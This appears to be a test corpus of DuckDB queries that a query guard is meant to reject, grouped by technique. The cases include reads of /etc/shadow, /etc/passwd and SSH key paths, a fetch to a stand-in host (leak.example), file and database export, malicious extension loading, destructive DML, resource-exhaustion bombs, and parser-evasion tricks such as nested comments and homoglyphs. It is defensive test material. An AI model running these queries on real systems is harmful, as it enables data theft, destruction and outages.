-- D-FILE-01: reads a file of the system
SELECT * FROM read_csv('/etc/passwd', sep = '\0', header = false, columns = {'line': 'VARCHAR'})
;;
-- D-FILE-02: reads a file, joined to a view
SELECT i.title, t.content FROM v_incident i JOIN read_text('/etc/hostname') t ON t.size = i.incident_id
;;
-- D-FILE-03: file as a table
SELECT * FROM '/etc/passwd'
;;
-- D-FILE-04: file as a table in quotation marks
SELECT * FROM "/etc/passwd.csv"
;;
-- D-FILE-05: file beside a view in UNION
SELECT title FROM v_incident UNION ALL SELECT content FROM read_text('/proc/self/environ')
;;
-- D-FILE-06: parquet file
SELECT * FROM read_parquet('data/*.parquet')
;;
-- D-FILE-07: parquet file, other name of the function
SELECT * FROM parquet_scan('/srv/leak.parquet')
;;
-- D-FILE-08: JSON file in a scalar subquery
SELECT title, (SELECT COUNT(*) FROM read_json_auto('/etc/secrets.json')) FROM v_incident
;;
-- D-FILE-09: lines of JSON as text
SELECT * FROM read_ndjson_objects('/var/log/app.json')
;;
-- D-FILE-10: bytes of a file
SELECT octet_length(content) FROM read_blob('/etc/shadow')
;;
-- D-FILE-11: list of files
SELECT file FROM glob('/home/*/.ssh/*')
;;
-- D-FILE-12: guesses the format of a file
SELECT * FROM sniff_csv('/etc/passwd')
;;
-- D-FILE-13: metadata of a file
SELECT * FROM parquet_metadata('/srv/x.parquet')
;;
-- D-FILE-14: file at an address of the network
SELECT * FROM 'https://leak.example/x.parquet'
;;
-- D-FILE-15: address of the network carries data away
SELECT * FROM read_csv('https://leak.example/?d=1')
;;
-- D-FILE-16: bucket
SELECT * FROM read_parquet('s3://bucket/x.parquet')
;;
-- D-FILE-17: file as a table in a subquery of WHERE
SELECT title FROM v_incident WHERE title IN (SELECT column0 FROM '/etc/passwd.csv')
;;
-- D-FILE-18: file as a table in a CTE
WITH c AS (FROM 'x.csv') SELECT * FROM c
;;
-- D-FILE-19: name of a file looks like schema and table
SELECT * FROM v_incident.csv
;;
-- D-FILE-20: rows of another database file
SELECT * FROM sqlite_scan('app.db', 'users')
;;
-- D-FILE-21: rows of another database server
SELECT * FROM postgres_scan('host=10.0.0.5 user=a', 'public', 'users')
;;
-- D-FILE-22: spreadsheet
SELECT * FROM read_xlsx('/srv/salaries.xlsx')
;;
-- D-FILE-23: table of a lake
SELECT * FROM delta_scan('/srv/lake')
;;
-- D-FILE-24: objects of Python are scanned in place of a table
SELECT * FROM secrets_frame
;;
-- D-FILE-25: function qualified with its schema
SELECT * FROM main.read_text('/etc/hostname')
;;
-- D-FILE-26: function name in quotation marks and in capitals
SELECT * FROM "READ_TEXT"('/etc/hostname')
;;
-- D-COPY-01: data written to a file
COPY (SELECT * FROM v_incident) TO '/tmp/leak.csv'
;;
-- D-COPY-02: second statement writes a file
SELECT title FROM v_incident; COPY v_incident TO 'leak.parquet'
;;
-- D-COPY-03: file read into a table
COPY incidents FROM '/etc/passwd'
;;
-- D-COPY-04: whole database written to files
EXPORT DATABASE '/tmp/leak'
;;
-- D-COPY-05: database read from files
IMPORT DATABASE '/tmp/leak'
;;
-- D-COPY-06: database copied into another
COPY FROM DATABASE memory TO other
;;
-- D-ATT-01: another database attached
SELECT title FROM v_incident; ATTACH 'x.duckdb' AS x
;;
-- D-ATT-02: database detached
DETACH main
;;
-- D-ATT-03: other database by default
USE other.main
;;
-- D-EXT-01: extension installed and loaded
INSTALL httpfs; LOAD httpfs
;;
-- D-EXT-02: extension loaded from a file
LOAD '/tmp/evil.duckdb_extension'
;;
-- D-SET-01: locks of the configuration lifted
SET enable_external_access = true
;;
-- D-SET-02: second statement changes settings
SELECT title FROM v_incident; SET GLOBAL memory_limit = '100GB'
;;
-- D-SET-03: setting put back
RESET enable_external_access
;;
-- D-SET-04: pragma
PRAGMA database_list
;;
-- D-SET-05: pragma with a value
PRAGMA enable_profiling = 'json'
;;
-- D-SET-06: variable set
SET VARIABLE x = (SELECT MAX(question) FROM feedback)
;;
-- D-SET-07: variable read
SELECT getvariable('x'), title FROM v_incident
;;
-- D-SET-08: secret made
CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')
;;
-- D-ENV-01: environment of the process
SELECT getenv('HOME'), title FROM v_incident
;;
-- D-ENV-02: settings of the database
SELECT current_setting('secret_directory') FROM v_incident
;;
-- D-ENV-03: version and build tell what to attack
SELECT version(), title FROM v_incident
;;
-- D-ENV-04: names of databases and schemas
SELECT current_database(), current_schemas(true) FROM v_incident
;;
-- D-ENV-05: text of the running query
SELECT current_query() FROM v_incident
;;
-- D-ENV-06: account
SELECT current_user, session_user FROM v_incident
;;
-- D-DICT-01: secrets
SELECT * FROM duckdb_secrets()
;;
-- D-DICT-02: tables
SELECT table_name FROM duckdb_tables()
;;
-- D-DICT-03: settings
SELECT name, value FROM duckdb_settings() UNION ALL SELECT title, status FROM v_incident
;;
-- D-DICT-04: standard dictionary
SELECT table_name FROM information_schema.tables
;;
-- D-DICT-05: dictionary of PostgreSQL
SELECT relname FROM pg_catalog.pg_class
;;
-- D-DICT-06: dictionary of PostgreSQL without its schema
SELECT tablename FROM pg_tables
;;
-- D-DICT-07: dictionary of SQLite
SELECT sql FROM sqlite_master
;;
-- D-DICT-08: dictionary as a view
SELECT sql FROM duckdb_views WHERE view_name = 'v_incident'
;;
-- D-DICT-09: table functions of PRAGMA
SELECT * FROM pragma_table_info('incidents')
;;
-- D-DICT-10: storage of a table
SELECT * FROM pragma_storage_info('incidents')
;;
-- D-DICT-11: list of tables
SHOW ALL TABLES
;;
-- D-DICT-12: list of tables in brackets
SELECT * FROM (SHOW TABLES)
;;
-- D-DICT-13: shape of a table in brackets
SELECT * FROM (DESCRIBE incidents)
;;
-- D-DICT-14: summary of a table
SUMMARIZE incidents
;;
-- D-DICT-15: summary of a table in brackets
SELECT column_name, min, max FROM (SUMMARIZE feedback)
;;
-- D-DICT-16: shape of a table
DESCRIBE incidents
;;
-- D-DICT-17: dictionary in a condition
SELECT title FROM v_incident WHERE EXISTS (SELECT 1 FROM duckdb_columns() WHERE column_name = 'password')
;;
-- D-DICT-18: log of queries
SELECT message FROM duckdb_logs
;;
-- D-DYN-01: SQL given as text
FROM query('SELECT * FROM read_text(''/etc/hostname'')')
;;
-- D-DYN-02: SQL given as text, put together from pieces
SELECT * FROM query('FROM ' || 'feed' || 'back')
;;
-- D-DYN-03: table by the text of its name
SELECT * FROM query_table('incidents')
;;
-- D-DYN-04: several tables by the texts of their names
SELECT * FROM query_table(['v_incident', 'incidents'], true)
;;
-- D-DYN-05: SQL stored as JSON
SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT * FROM feedback'))
;;
-- D-DYN-06: prepared statement
PREPARE p AS DELETE FROM incidents; EXECUTE p
;;
-- D-DYN-07: runs what was prepared
EXECUTE p(1)
;;
-- D-DYN-08: table function without SELECT
CALL pragma_version()
;;
-- D-DYN-09: macro made
CREATE MACRO m(x) AS TABLE SELECT * FROM feedback
;;
-- D-DYN-10: own macro called
SELECT wipe(incident_id) FROM v_incident
;;
-- D-DYN-11: own table macro called
SELECT * FROM all_feedback()
;;
-- D-DYN-12: function of Python called by its name with a dot
SELECT incident_id.py_delete() FROM v_incident
;;
-- D-DYN-13: call written after a dot hides the function
SELECT title, ('secret_directory').current_setting() FROM v_incident
;;
-- D-DYN-14: pragma that runs a query
SELECT * FROM pragma_user_agent()
;;
-- D-BOMB-01: endless recursion
WITH RECURSIVE r (n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT COUNT(*) FROM r
;;
-- D-BOMB-02: endless recursion over a view
WITH RECURSIVE r AS (SELECT incident_id FROM v_incident UNION ALL SELECT r.incident_id FROM r JOIN v_incident i ON i.incident_id = r.incident_id) SELECT COUNT(*) FROM r
;;
-- D-BOMB-03: recursion with keys
WITH RECURSIVE r (k, n) USING KEY (k) AS (SELECT 1, 1 UNION SELECT k, n + 1 FROM r) SELECT MAX(n) FROM r
;;
-- D-BOMB-04: product of generated rows
SELECT COUNT(*) FROM range(1000000) a, range(1000000) b WHERE a.range * b.range % 7 = 3
;;
-- D-BOMB-05: generated rows beside a view
SELECT i.title FROM v_incident i, generate_series(1, 1000000000) g
;;
-- D-BOMB-06: long list unfolded once per row
SELECT title, unnest(range(100000000)) FROM v_incident
;;
-- D-BOMB-07: long list as a table
SELECT COUNT(*) FROM unnest(generate_series(1, 1000000000)) t
;;
-- D-BOMB-08: long text
SELECT repeat('x', 2000000000) FROM v_incident
;;
-- D-BOMB-09: long text by padding
SELECT lpad('x', 2000000000, 'y') FROM v_incident
;;
-- D-BOMB-10: texts multiply
SELECT replace(replace(repeat('a', 100000), 'a', repeat('b', 100000)), 'b', 'cc') FROM v_incident
;;
-- D-BOMB-11: long list worked through by a lambda
SELECT list_sum(list_transform(range(1000000000), lambda x: x * x)) FROM v_incident
;;
-- D-BOMB-12: list comprehension
SELECT [x * y FOR x IN range(1000000000)] FROM (SELECT incident_id AS y FROM v_incident)
;;
-- D-BOMB-13: list made longer
SELECT list_resize([1], 2000000000, 0) FROM v_incident
;;
-- D-BOMB-14: product of three views
SELECT COUNT(*) FROM v_incident a, v_incident b, v_incident c
;;
-- D-BOMB-15: join on a truth
SELECT COUNT(*) FROM v_incident a JOIN v_station_day b ON true
;;
-- D-BOMB-16: join on an inequality
SELECT COUNT(*) FROM v_incident a JOIN v_station_day b ON a.loss_rub <> b.litres_sold
;;
-- D-BOMB-17: join by position pairs rows that have nothing in common
SELECT * FROM v_incident POSITIONAL JOIN v_station_day
;;
-- D-BOMB-18: nearest-row join without equality
SELECT COUNT(*) FROM v_incident a ASOF JOIN v_station_day b ON a.loss_rub >= b.litres_sold
;;
-- D-BOMB-19: LATERAL pairs every row with every row
SELECT COUNT(*) FROM v_incident i, LATERAL (SELECT * FROM v_station_day d WHERE d.litres_sold > i.litres_spilled) x
;;
-- D-BOMB-20: all texts in one list in one value
SELECT list(i) FROM v_incident i, v_station_day d
;;
-- D-BOMB-21: over a million grouping sets
SELECT COUNT(*) FROM v_incident GROUP BY CUBE (title, category, department, severity, status, source, reported_by, root_cause, region, city, station_code, station_name, station_format, equipment_kind, equipment_model, equipment_serial, is_open, sla_kept, sla_h, external_id)
;;
-- D-BOMB-22: semi join on a truth
SELECT title FROM v_incident a SEMI JOIN v_station_day b ON a.title <> b.region
;;
-- D-BOMB-23: format widens a text
SELECT format('{:>2000000000}', title) FROM v_incident
;;
-- D-BOMB-24: printf widens a text
SELECT printf('%2000000000d', incident_id) FROM v_incident
;;
-- D-BOMB-25: generated rows in a scalar subquery
SELECT title, (SELECT SUM(range) FROM range(10000000000)) FROM v_incident
;;
-- D-BOMB-26: long text by a bar
SELECT bar(incident_id, 0, 1, 1000000000) FROM v_incident
;;
-- D-BOMB-27: test function makes rows
SELECT COUNT(*) FROM repeat_row(1, 2, num_rows = 10000000000)
;;
-- D-BOMB-28: range of moments, one second a step
SELECT unnest(generate_series(TIMESTAMP '1900-01-01', TIMESTAMP '2100-01-01', INTERVAL 1 MILLISECOND)) FROM v_incident
;;
-- D-SEQ-01: moves a sequence
SELECT nextval('s') FROM v_incident
;;
-- D-SEQ-02: reads a sequence
SELECT currval('s')
;;
-- D-SEQ-03: sleeps
SELECT sleep_ms(3600000) FROM v_incident
;;
-- D-SEQ-04: writes to the log of the database
SELECT write_log(description, level := 'error') FROM v_incident
;;
-- D-SEQ-05: fails on purpose and shows data in the message
SELECT error((SELECT MAX(question) FROM feedback)) FROM v_incident
;;
-- D-SEQ-06: seed of the connection is changed
SELECT setseed(0.5), title FROM v_incident
;;
-- D-TABLE-01: table of the application
SELECT * FROM incidents
;;
-- D-TABLE-02: view with a schema
SELECT * FROM main.v_incident
;;
-- D-TABLE-03: view of the temporary schema
SELECT * FROM temp.v_incident
;;
-- D-TABLE-04: view with a database and a schema
SELECT * FROM memory.main.v_incident
;;
-- D-TABLE-05: dictionary of the system database
SELECT * FROM system.information_schema.tables
;;
-- D-TABLE-06: FROM comes first
FROM incidents
;;
-- D-TABLE-07: FROM comes first, columns after it
FROM feedback SELECT question
;;
-- D-TABLE-08: the word TABLE
TABLE incidents
;;
-- D-TABLE-09: the word TABLE in UNION
SELECT title FROM v_incident UNION ALL (TABLE secrets)
;;
-- D-TABLE-10: values only
VALUES (getenv('HOME'))
;;
-- D-TABLE-11: values beside a view call a function
SELECT * FROM v_incident i JOIN (VALUES (current_setting('home_directory'))) t(x) ON t.x = i.title
;;
-- D-TABLE-12: table of the application, quoted, with an alias named as a view
SELECT v_incident.* FROM "incidents" v_incident
;;
-- D-TABLE-13: alias stands before the table
SELECT x.* FROM x: incidents
;;
-- D-TABLE-14: table in brackets and a join
SELECT * FROM (v_incident JOIN feedback ON feedback.language = v_incident.source)
;;
-- D-TABLE-15: sample of a table
SELECT * FROM incidents USING SAMPLE 10%
;;
-- D-TABLE-16: table of the past
SELECT * FROM v_incident AT (VERSION => 1)
;;
-- D-TABLE-17: UNION BY NAME with a table
SELECT title FROM v_incident UNION ALL BY NAME SELECT question AS title FROM feedback
;;
-- D-TABLE-18: EXCEPT with a table
SELECT title FROM v_incident EXCEPT SELECT question FROM feedback
;;
-- D-PIVOT-01: statement PIVOT over a table
PIVOT incidents ON severity USING COUNT(*)
;;
-- D-PIVOT-02: statement PIVOT in a CTE
WITH p AS (PIVOT feedback ON vote USING COUNT(*)) SELECT * FROM p
;;
-- D-PIVOT-03: statement UNPIVOT
UNPIVOT app_info ON value INTO NAME n VALUE v
;;
-- D-PIVOT-04: statement PIVOT over a table in brackets
SELECT * FROM (PIVOT feedback ON vote USING COUNT(*))
;;
-- D-COL-01: columns by a pattern from a table
SELECT COLUMNS('.*pass.*|.*token.*') FROM accounts
;;
-- D-COL-02: columns by a lambda, with a call inside
SELECT COLUMNS(c -> c LIKE current_setting('file_search_path')) FROM v_incident
;;
-- D-COL-03: REPLACE puts a forbidden value in place of a column
SELECT * REPLACE (current_setting('secret_directory') AS title) FROM v_incident
;;
-- D-COL-04: REPLACE with a subquery
SELECT * EXCLUDE (description) REPLACE ((SELECT MAX(question) FROM feedback) AS title) FROM v_incident
;;
-- D-COL-05: whole row of a table as a value
SELECT i.title, f FROM v_incident i JOIN feedback f ON f.language = i.source
;;
-- D-COL-06: column outside of the contract
SELECT title, import_source FROM v_incident
;;
-- D-COL-07: number of the row in storage
SELECT rowid, title FROM v_incident
;;
-- D-COL-08: name of the file of the row
SELECT filename, file_row_number FROM v_incident
;;
-- D-COL-09: field of a struct that a call makes
SELECT struct_pack(a := current_setting('secret_directory')).a FROM v_incident
;;
-- D-COL-10: call hidden in braces
SELECT {'a': title, 'b': current_setting('secret_directory')} FROM v_incident
;;
-- D-COL-11: call hidden in a lambda
SELECT list_transform([title], lambda x: x || current_setting('secret_directory')) FROM v_incident
;;
-- D-COL-12: call hidden in FILTER
SELECT COUNT(*) FILTER (WHERE current_setting('secret_directory') LIKE '/root%') FROM v_incident
;;
-- D-COL-13: call hidden in QUALIFY
SELECT title FROM v_incident QUALIFY ROW_NUMBER() OVER (ORDER BY current_setting('secret_directory')) = 1
;;
-- D-COL-14: call hidden in LIMIT
SELECT title FROM v_incident LIMIT (SELECT COUNT(*) FROM incidents)
;;
-- D-COL-15: call hidden in a named window
SELECT SUM(loss_rub) OVER w FROM v_incident WINDOW w AS (PARTITION BY current_setting('secret_directory') ORDER BY incident_id)
;;
-- D-COL-16: call hidden in DISTINCT ON
SELECT DISTINCT ON (current_setting('secret_directory')) title FROM v_incident
;;
-- D-COL-17: text becomes the name of a table
SELECT COUNT(*) FROM v_incident WHERE incident_id < 'incidents'::regclass::INT
;;
-- D-COL-18: function with the syntax of an operator over a subquery of the dictionary
SELECT title FROM v_incident WHERE title = ANY (SELECT table_name FROM duckdb_tables())
;;
-- D-CTE-01: CTE takes the name of a view
WITH v_incident AS (SELECT question AS title FROM feedback) SELECT title FROM v_incident
;;
-- D-CTE-02: deletes in a CTE
WITH x AS (DELETE FROM incidents RETURNING *) SELECT * FROM x
;;
-- D-CTE-03: updates in a CTE
WITH x AS (UPDATE incidents SET status = 'closed' RETURNING title) SELECT title FROM x
;;
-- D-CTE-04: the CTE named as a table reads the table itself
WITH incidents AS MATERIALIZED (SELECT * FROM incidents) SELECT * FROM incidents
;;
-- D-CTE-05: a name made known in an inner query is used outside of it
SELECT (SELECT MAX(x) FROM (WITH feedback AS (SELECT 1 AS x) SELECT x FROM feedback)) AS n, f.question FROM feedback f
;;
-- D-CTE-06: a name is used before the CTE that defines it
WITH a AS (SELECT * FROM incidents), incidents AS (SELECT 1 AS x) SELECT * FROM a
;;
-- D-CTE-07: CTE has the name of a table, the query reads the table with its schema
WITH incidents AS (SELECT title FROM v_incident) SELECT * FROM main.incidents
;;
-- D-CTE-08: insert after WITH
WITH x AS (SELECT * FROM v_incident) INSERT INTO actions (action_id, incident_id) SELECT incident_id, incident_id FROM x
;;
-- D-DML-01: delete
DELETE FROM incidents
;;
-- D-DML-02: update
UPDATE incidents SET status = 'closed' WHERE true
;;
-- D-DML-03: insert
INSERT INTO incidents BY NAME SELECT * FROM v_incident
;;
-- D-DML-04: drop
DROP VIEW IF EXISTS v_incident CASCADE
;;
-- D-DML-05: the view replaced
CREATE OR REPLACE VIEW v_incident AS SELECT * FROM read_text('/etc/hostname')
;;
-- D-DML-06: temporary table
CREATE TEMP TABLE t AS SELECT * FROM v_incident
;;
-- D-DML-07: columns changed
ALTER TABLE incidents DROP COLUMN title
;;
-- D-DML-08: truncate
TRUNCATE incidents
;;
-- D-DML-09: select into a new table
SELECT * INTO leak FROM v_incident
;;
-- D-DML-10: merge
MERGE INTO incidents t USING v_incident s ON t.incident_id = s.incident_id WHEN MATCHED THEN DELETE
;;
-- D-SES-01: checkpoint
FORCE CHECKPOINT
;;
-- D-SES-02: vacuum
VACUUM ANALYZE incidents
;;
-- D-SES-03: plan with a run of a deletion
EXPLAIN ANALYZE DELETE FROM incidents
;;
-- D-SES-04: plan of a query
EXPLAIN SELECT * FROM v_incident
;;
-- D-SES-05: transaction
BEGIN TRANSACTION
;;
-- D-SES-06: comment on a view
COMMENT ON VIEW v_incident IS 'x'
;;
-- D-MANY-01: second statement
SELECT title FROM v_incident; DELETE FROM incidents
;;
-- D-MANY-02: second statement after a comment with a semicolon
SELECT title FROM v_incident /* ; */ ; DELETE FROM incidents
;;
-- D-MANY-03: second statement, the first is empty
; DROP TABLE incidents
;;
-- D-HIDE-01: string in dollar signs holds a quotation mark
SELECT $$'$$ AS t FROM v_incident UNION ALL SELECT question FROM feedback --'
;;
-- D-HIDE-02: string in named dollar signs
SELECT $x$ ' $$ ' $x$ AS t FROM v_incident UNION ALL SELECT content FROM read_text('/etc/hostname')
;;
-- D-HIDE-03: comments nest in DuckDB, so the name of the view is a comment
SELECT * FROM /* /* */ v_incident -- */
feedback
;;
-- D-HIDE-04: string with escapes ends later
SELECT e'\'' AS t FROM v_incident UNION ALL SELECT question FROM feedback --'
;;
-- D-HIDE-05: backslash is an ordinary letter, the string ends
SELECT '\' AS a, question AS b FROM feedback WHERE question <> ' FROM v_incident --'
;;
-- D-HIDE-06: name of a file in dollar signs
SELECT * FROM read_text($$/etc/hostname$$)
;;
-- D-HIDE-07: escaped letters in the name of a file
SELECT * FROM read_text(e'\x2fetc\x2fhostname')
;;
-- D-HIDE-08: Cyrillic letters in the name of a view
SELECT * FROM v_inсident
;;
-- D-HIDE-09: comment between a function and its brackets
SELECT getenv/**/('HOME') FROM v_incident
;;
-- D-HIDE-10: quoted name of the function
SELECT "getenv"('HOME') FROM v_incident
;;
-- D-HIDE-11: a line break ends the line comment
SELECT title FROM v_incident -- only titles
UNION ALL SELECT question FROM feedback
